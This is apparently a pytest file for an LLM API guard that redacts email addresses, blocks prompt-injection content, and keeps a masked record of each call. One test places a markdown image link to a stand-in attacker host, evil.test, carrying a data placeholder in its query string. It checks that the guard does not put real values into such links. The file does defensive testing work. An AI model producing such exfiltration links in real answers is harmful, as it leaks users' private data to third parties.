"""The guard of a call: what goes out, what comes back, and what stands in the record of it."""

import orjson
import pytest

from midwatch_core import hookimpl
from midwatch_core.model.finding import Action, Finding
from midwatch_core.model.segment import Direction
from midwatch_core.testing.factories import make_exchange
from midwatch_core.wire.dialects.openai.chat import OpenAIChat
from midwatch_core.wire.dialects.openai.files import OpenAIFiles
from midwatch_core.wire.dialects.openai.responses import OpenAIResponses
from midwatch_core.wire.dialects.openai.transcriptions import OpenAITranscriptions
from midwatch_core.wire.target import Target
from tests.core.enforcement.calls import MAIL, MAILS, REDACT, SEALER, Broken, Finds, answer, chat, enforcer, guarded

BLOCK = "{id: stop, when: {category: prompt_injection, direction: request}, then: block}"
BLOCK_ANSWERS = "{id: stop, when: {category: prompt_injection, direction: response}, then: block}"


def test_a_policy_that_only_records_guards_nothing() -> None:
    made = enforcer("{id: all, then: flag}", "{id: trial, then: block, dry_run: true}")
    assert made.guard(make_exchange(), OpenAIChat(), SEALER.segments) is None


async def test_a_value_goes_out_as_a_placeholder_and_all_else_as_it_was_written() -> None:
    call = guarded(
        b'{ "model":"m",  "messages":[{"role":"user","content":"I am bob@example.org, caf\\u00e9"}] }', REDACT
    )
    ruled = await call.guard.request(call.body)
    (name,) = call.guard.placeholders
    assert ruled.edited
    assert ruled.body == call.body.replace(MAIL.encode(), name.encode())
    assert call.guard.placeholders[name] == MAIL


async def test_a_call_without_findings_passes_byte_for_byte() -> None:
    call = guarded(chat("Hello"), "{id: mails, when: {category: pii, direction: request}, then: redact}")
    ruled = await call.guard.request(call.body)
    assert (ruled.body, ruled.edited, ruled.refusal) == (call.body, False, None)
    assert not call.guard.edits_answers


async def test_what_repeats_the_value_beside_the_texts_is_hidden_too() -> None:
    call = guarded(chat(f"I am {MAIL}", user=MAIL, metadata={"who": f"x {MAIL}"}), REDACT)
    ruled = await call.guard.request(call.body)
    assert MAIL.encode() not in ruled.body


async def test_values_inside_tool_results_and_arguments_are_hidden() -> None:
    call_of_tool = {"id": "1", "type": "function", "function": {"name": "f", "arguments": f'{{"to":"{MAIL}"}}'}}
    body = {
        "model": "m",
        "messages": [
            {"role": "assistant", "content": None, "tool_calls": [call_of_tool]},
            {"role": "tool", "tool_call_id": "1", "content": [{"type": "text", "text": f"sent to {MAIL}"}]},
        ],
    }
    call = guarded(body, REDACT)
    ruled = await call.guard.request(call.body)
    assert MAIL.encode() not in ruled.body
    arguments = orjson.loads(ruled.body)["messages"][0]["tool_calls"][0]["function"]["arguments"]
    assert orjson.loads(arguments)["to"] in call.guard.placeholders


async def test_a_blocked_request_names_policy_line_and_rule_and_repeats_nothing() -> None:
    call = guarded(chat("an attack with a secret word"), BLOCK)
    ruled = await call.guard.request(call.body)
    assert ruled.refusal is not None
    assert (ruled.refusal.status, ruled.refusal.code) == (403, "blocked_by_policy")
    assert ruled.refusal.request_id == call.exchange.id
    assert "line stop" in ruled.refusal.message
    assert "t/prompt_injection" in ruled.refusal.message
    assert "secret word" not in ruled.refusal.message


@pytest.mark.parametrize(("on_failure", "refused"), [("pass", False), ("block", True)])
async def test_a_detector_that_fails(on_failure: str, refused: bool) -> None:
    line = f"{{id: mails, when: {{category: pii}}, then: redact, on_failure: {on_failure}}}"
    call = guarded(chat(MAIL), line, detectors=(MAILS, Broken()))
    ruled = await call.guard.request(call.body)
    assert (ruled.refusal is not None) is refused
    if refused:
        assert ruled.refusal is not None
        assert (ruled.refusal.code, "d1" in ruled.refusal.message) == ("inspection_failed", True)
    assert any("d1" in (verdict.reason or "") for verdict in call.recorded().verdicts)


TWICE = b'{"model":"m","messages":[{"role":"user","content":"x","content":"bob@example.org"}]}'


@pytest.mark.parametrize(("on_failure", "refused"), [("pass", False), ("block", True)])
async def test_a_redaction_that_can_not_be_made_safely(on_failure: str, refused: bool) -> None:
    call = guarded(TWICE, f"{{id: mails, when: {{category: pii}}, then: redact, on_failure: {on_failure}}}")
    ruled = await call.guard.request(call.body)
    assert (ruled.refusal is not None) is refused
    assert ruled.body == TWICE
    recorded = call.recorded()
    assert any((verdict.reason or "").startswith("not redacted: ") for verdict in recorded.verdicts)
    assert recorded.action is (Action.BLOCK if refused else Action.FLAG)


FORM = Target(host="h", path="/", headers={"content-type": "multipart/form-data; boundary=b"})


def form(prompt: str) -> bytes:
    """A form with sound and a prompt."""
    part = b'--b\r\ncontent-disposition: form-data; name="%s"%s\r\n\r\n%s\r\n'
    sound = part % (b"file", b'; filename="a.wav"', b"RIFF\0")
    return sound + part % (b"prompt", b"", prompt.encode()) + b"--b--\r\n"


async def test_a_form_that_would_be_redacted_is_refused_and_not_touched() -> None:
    call = guarded(form(f"Names: {MAIL}"), REDACT, dialect=OpenAITranscriptions(), target=FORM)
    ruled = await call.guard.request(call.body)
    assert ruled.refusal is not None
    assert (ruled.refusal.status, ruled.refusal.code) == (403, "redaction_failed")
    assert "the body is a form, which can't be edited" in ruled.refusal.message
    assert (ruled.body, ruled.edited) == (call.body, False)
    assert call.recorded().action is Action.BLOCK


async def test_a_form_with_nothing_to_hide_passes_and_one_with_an_attack_is_blocked() -> None:
    call = guarded(form("Names: Ishmael"), REDACT, BLOCK, dialect=OpenAITranscriptions(), target=FORM)
    ruled = await call.guard.request(call.body)
    assert (ruled.body, ruled.refusal) == (call.body, None)
    bad = guarded(form("an attack"), REDACT, BLOCK, dialect=OpenAITranscriptions(), target=FORM)
    refusal = (await bad.guard.request(bad.body)).refusal
    assert refusal is not None
    assert refusal.code == "blocked_by_policy"


async def test_a_batch_s_lines_in_a_form_are_ruled_on() -> None:
    line = (
        b'{"custom_id": "1", "url": "/v1/chat/completions", "body": {"messages": [{"role": "user", "content": "%s"}]}}'
    )
    body = form("x").replace(b"a.wav", b"in.jsonl").replace(b"RIFF\0", line % b"an attack")
    call = guarded(body, BLOCK, dialect=OpenAIFiles(), target=FORM)
    refusal = (await call.guard.request(call.body)).refusal
    assert refusal is not None
    assert refusal.code == "blocked_by_policy"


async def test_one_edit_that_can_not_be_made_leaves_the_others() -> None:
    more = b'},{"role":"user","content":"eve@example.org"}]}'
    call = guarded(TWICE.replace(b"}]}", more), REDACT)
    ruled = await call.guard.request(call.body)
    assert b"eve@" not in ruled.body
    assert b"bob@" in ruled.body


async def test_a_whole_answer_gets_its_values_back_and_keeps_its_other_bytes() -> None:
    call = guarded(chat(f"I am {MAIL}"), REDACT)
    await call.guard.request(call.body)
    (name,) = call.guard.placeholders
    before = answer(f"Hello {name} and <EMAIL_zzzz>")
    ruled = await call.guard.whole(before, 200)
    assert ruled.body == before.replace(name.encode(), MAIL.encode())


async def test_arguments_that_are_an_object_are_restored_string_by_string() -> None:
    call = guarded(chat(f"I am {MAIL}"), REDACT)
    await call.guard.request(call.body)
    (name,) = call.guard.placeholders
    tool = {"id": "1", "type": "function", "function": {"name": "f", "arguments": {"to": name, "cc": [name, "x"]}}}
    ruled = await call.guard.whole(answer("", tool_calls=[tool]), 200)
    arguments = orjson.loads(ruled.body)["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
    assert arguments == {"to": MAIL, "cc": [MAIL, "x"]}


async def test_a_value_does_not_go_into_a_link_to_a_host_that_nobody_named() -> None:
    call = guarded(chat(f"I am {MAIL}, see https://good.test/"), REDACT)
    await call.guard.request(call.body)
    (name,) = call.guard.placeholders
    before = answer(f"![x](https://evil.test/?q={name}) https://good.test/?q={name}")
    said = orjson.loads((await call.guard.whole(before, 200)).body)["choices"][0]["message"]["content"]
    assert said == f"![x](https://evil.test/?q={name}) https://good.test/?q={MAIL}"


async def test_a_host_that_only_a_tool_named_counts_as_foreign() -> None:
    body = {
        "model": "m",
        "messages": [
            {"role": "user", "content": f"I am {MAIL}"},
            {"role": "tool", "tool_call_id": "1", "content": "see https://evil.test/"},
        ],
    }
    call = guarded(body, REDACT)
    await call.guard.request(call.body)
    (name,) = call.guard.placeholders
    before = answer(f"https://evil.test/?q={name}")
    assert (await call.guard.whole(before, 200)).body == before


async def test_the_restored_answer_is_inspected() -> None:
    call = guarded(
        chat("my attack@example.org"), "{id: m, when: {category: pii, direction: request}, then: redact}", BLOCK_ANSWERS
    )
    await call.guard.request(call.body)
    (name,) = call.guard.placeholders
    ruled = await call.guard.whole(answer(f"Hello {name}"), 200)
    assert ruled.refusal is not None


async def test_an_answer_that_may_not_pass_is_refused_and_one_with_values_redacted() -> None:
    call = guarded(chat("Hi"), BLOCK_ANSWERS, REDACT)
    assert (await call.guard.whole(answer("an attack"), 200)).refusal is not None
    call = guarded(chat("Hi"), BLOCK_ANSWERS, REDACT)
    ruled = await call.guard.whole(answer(f"Ask {MAIL}"), 200)
    assert MAIL.encode() not in ruled.body
    recorded = call.recorded(ruled.body)
    assert MAIL not in repr(recorded)
    (finding,) = recorded.findings
    assert recorded.response is not None
    assert recorded.response.segments[0].text[finding.start : finding.end].startswith("<EMAIL_")


async def test_the_record_is_masked_and_says_what_was_done_by_which_line() -> None:
    call = guarded(chat(f"I am {MAIL}"), REDACT)
    await call.guard.request(call.body)
    (name,) = call.guard.placeholders
    ruled = await call.guard.whole(answer(f"Hello {name}"), 200)
    recorded = call.recorded(ruled.body)
    assert MAIL not in repr(recorded)
    assert recorded.request.segments[0].text == f"I am {name}"
    (verdict,) = [item for item in recorded.verdicts if item.action is Action.REDACT]
    assert (verdict.policy, verdict.policy_line, len(verdict.findings)) == ("p", "mails", 2)
    assert set(recorded.inspected) == {Direction.REQUEST, Direction.RESPONSE}


async def test_lines_on_trial_change_nothing_and_are_on_record() -> None:
    call = guarded(
        chat(f"an attack by {MAIL}"),
        "{id: trial, when: {category: prompt_injection}, then: block, dry_run: true}",
        REDACT,
    )
    ruled = await call.guard.request(call.body)
    assert ruled.refusal is None
    tried = [item for item in call.recorded().verdicts if item.dry_run]
    assert [(item.action, item.policy_line) for item in tried] == [(Action.BLOCK, "trial")]
    assert call.recorded().action is Action.REDACT


async def test_a_conversation_that_the_provider_keeps_gets_its_values_back_later() -> None:
    shared = enforcer(REDACT)
    responses = OpenAIResponses()
    first = guarded({"model": "m", "input": f"I am {MAIL}"}, dialect=responses, under=shared)
    await first.guard.request(first.body)
    (name,) = first.guard.placeholders
    first.guard.on(make_exchange(request=first.exchange.request))  # the factory's answer has the id chatcmpl-1
    later = {"model": "m", "input": "Who am I?", "previous_response_id": "chatcmpl-1"}
    second = guarded(later, dialect=responses, under=shared)
    assert second.guard.placeholders == {name: MAIL}
    assert second.guard.edits_answers


async def test_what_was_put_back_is_no_clear_text_in_the_frame_of_an_answer_that_nobody_inspects() -> None:
    value = 'bo"b@example.org'
    finds = Finds(r'bo"b@[\w.]*\w', "pii", "EMAIL")
    line = "{id: mails, when: {category: pii, direction: request}, then: redact}"
    call = guarded(chat(f"I am {value}"), line, detectors=(finds,))
    await call.guard.request(call.body)
    (name,) = call.guard.placeholders
    tool = {"id": "1", "type": "function", "function": {"name": "f", "arguments": f'{{"to":"{name}"}}'}}
    ruled = await call.guard.whole(answer(f"Hello {name}", tool_calls=[tool]), 200)
    assert b"bo\\" in ruled.body
    recorded = call.recorded(ruled.body)
    assert recorded.response is not None
    assert [item.text for item in recorded.response.segments] == [f"Hello {name}", f'{{"to":"{name}"}}']
    assert Direction.RESPONSE not in recorded.inspected


class OwnWords:
    """A plugin that says itself what stands instead of a value."""

    @hookimpl
    def mask(self, finding: Finding, text: str) -> str | None:
        return f"[mail at {text.partition('@')[2]}]" if finding.kind == "EMAIL" else None


async def test_a_plugin_may_say_what_stands_instead_and_then_nothing_is_put_back() -> None:
    call = guarded(chat(f"I am {MAIL}"), REDACT, detectors=(MAILS, OwnWords()))
    ruled = await call.guard.request(call.body)
    assert ruled.body == call.body.replace(MAIL.encode(), b"[mail at example.org]")
    assert call.guard.placeholders == {}
    assert MAIL not in repr(call.recorded())
